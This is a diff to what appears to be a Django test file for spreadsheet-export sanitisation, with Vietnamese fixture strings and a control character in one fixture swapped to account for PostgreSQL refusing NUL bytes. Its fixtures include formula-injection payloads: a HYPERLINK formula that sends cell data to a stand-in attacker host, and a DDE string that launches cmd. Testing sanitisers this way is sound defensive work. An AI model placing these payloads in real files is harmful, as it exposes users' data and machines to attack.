@@ -23,7 +23,8 @@ pytestmark = pytest.mark.django_db
 
 FORMULA_NAME = '=HYPERLINK("http://ke-xau.example/?x="&A1,"Bấm vào đây")'
 FORMULA_POSITION = "@SUM(1+1)*cmd|' /C calc'!A0"
-SUMMARY_WITH_CONTROLS = "+1 Thành tích năm 2024:\x0bdòng hai\x07 chuông\x00 nul\r\ndòng ba\x85."
+# No NUL: PostgreSQL never stored one (it refuses them), so old data cannot hold it.
+SUMMARY_WITH_CONTROLS = "+1 Thành tích năm 2024:\x0bdòng hai\x07 chuông\x1b nul\r\ndòng ba\x85."
 SUMMARY_CLEANED = "+1 Thành tích năm 2024:\ndòng hai chuông nul\ndòng ba."
 UNIT_NAME = "-2+3 Sở Tài chính\x0b tỉnh Ninh Thuận"
 UNIT_NAME_CLEANED = "-2+3 Sở Tài chính\n tỉnh Ninh Thuận"
